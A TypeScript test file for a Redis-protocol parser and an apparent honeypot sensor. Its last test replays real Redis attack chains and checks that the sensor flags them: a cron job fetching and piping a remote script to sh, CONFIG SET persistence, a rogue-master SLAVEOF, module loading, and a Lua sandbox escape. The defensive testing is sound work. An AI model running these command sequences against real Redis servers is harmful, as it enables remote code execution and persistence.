import fc from 'fast-check'
import { expect, test } from 'vitest'
import { cut, heard, testSensor } from '../../testing.ts'
import { Reader } from '../../runtime/reader.ts'
import { encode, requests, array, bulk, integer, nil, ok } from './resp.ts'

const parse = async (bytes: Buffer, places: readonly number[] = []) => {
  const reader = new Reader()
  void (async () => {
    for (const part of cut(bytes, places)) {
      await Promise.resolve()
      reader.push(part)
    }
    reader.end()
  })()
  const all: string[][] = []
  for await (const request of requests(reader)) all.push(request.map((arg) => arg.toString('latin1')))
  return all
}
const command = (...args: string[]): Buffer =>
  Buffer.from(`*${args.length}\r\n${args.map((arg) => `$${Buffer.byteLength(arg)}\r\n${arg}\r\n`).join('')}`)

test('a request reads the same however the network cuts it', async () => {
  const args = fc.array(fc.string({ unit: 'binary-ascii', maxLength: 40 }), { minLength: 1, maxLength: 6 })
  await fc.assert(
    fc.asyncProperty(
      fc.array(args, { maxLength: 6 }),
      fc.array(fc.nat(), { maxLength: 30 }),
      async (commands, places) => {
        const bytes = Buffer.concat(commands.map((one) => command(...one)))
        expect(await parse(bytes, places)).toEqual(commands)
      },
    ),
  )
})

test('no bytes make it throw anything but the errors of a peer', async () => {
  await fc.assert(
    fc.asyncProperty(
      fc.uint8Array({ maxLength: 200 }),
      fc.array(fc.nat(), { maxLength: 10 }),
      async (bytes, places) => {
        const error = await parse(Buffer.from(bytes), places).then(
          () => undefined,
          (cause: Error) => cause.name,
        )
        expect([undefined, 'Malformed', 'EndOfStream']).toContain(error)
      },
    ),
    { numRuns: 1000 },
  )
})

test('answers are written in both protocol versions', () => {
  const map = { type: 'map' as const, items: [[bulk('a'), integer(1)] as const] }
  expect(encode(array([ok, nil, map]), 2).toString()).toBe('*3\r\n+OK\r\n$-1\r\n*2\r\n$1\r\na\r\n:1\r\n')
  expect(encode(array([nil, map]), 3).toString()).toBe('*2\r\n_\r\n%1\r\n$1\r\na\r\n:1\r\n')
})

test('the ways of miners and worms are played to their end and recorded', async () => {
  await using lab = await testSensor()
  const socket = await lab.connect('redis')
  const say = async (enough: RegExp, ...args: string[]): Promise<string> => {
    const answer = heard(socket, enough)
    socket.write(command(...args))
    return answer
  }
  expect(await say(/proto/, 'HELLO', '3')).toMatch(/^%7\r\n/)
  expect(await say(/\r\n/, 'PING')).toBe('+PONG\r\n')
  expect(await say(/redis_version/, 'INFO')).toContain('redis_version:6.0.16')
  await say(/OK/, 'SET', 'x', '\n\n*/1 * * * * curl -fsSL http://198.51.100.8/i.sh|sh\n\n')
  await say(/OK/, 'CONFIG', 'SET', 'dir', '/var/spool/cron/')
  await say(/OK/, 'CONFIG', 'SET', 'dbfilename', 'root')
  await say(/OK/, 'SAVE')
  await say(/OK/, 'SLAVEOF', '198.51.100.9', '21000')
  await say(/OK/, 'MODULE', 'LOAD', './exp.so')
  expect(await say(/uid/, 'system.exec', 'id')).toContain('uid=107(redis)')
  expect(
    await say(
      /uid/,
      'EVAL',
      'local io_l = package.loadlib("/usr/lib/x86_64-linux-gnu/liblua5.1.so.0", "luaopen_io"); local io = io_l(); local f = io.popen("id", "r");',
      '0',
    ),
  ).toContain('uid=107')
  expect(await say(/\r\n/, 'nonsense', 'a')).toBe(
    '-ERR unknown command `nonsense`, with args beginning with: `a`, \r\n',
  )
  socket.write('set k "in line"\r\n')
  expect(await heard(socket, /\r\n/)).toBe('+OK\r\n')
  socket.write('*1\r\n!bad\r\n')
  expect(await heard(socket, undefined)).toBe("-ERR Protocol error: expected '$', got '!'\r\n")
  await lab.until('session.close')
  const events = await lab.events()
  expect(events.filter((event) => event.kind === 'exploit.match').map(({ data }) => data.exploit)).toEqual([
    'redis-cron',
    'redis-rogue-master',
    'redis-module-load',
    'redis-lua-escape',
  ])
  expect(events.find((event) => event.kind === 'payload.seen')?.data.url).toBe('http://198.51.100.8/i.sh')
  expect(events.find((event) => event.kind === 'persistence.added')?.data).toMatchObject({
    method: 'cron',
    path: '/var/spool/cron/root',
  })
  expect(events.find((event) => event.kind === 'artifact.stored')?.data.name).toBe('/var/spool/cron/root')
  expect(events.filter((event) => event.kind === 'command.run').map(({ data }) => data.line)).toEqual(['id', 'id'])
  expect(lab.log).toEqual([])
})
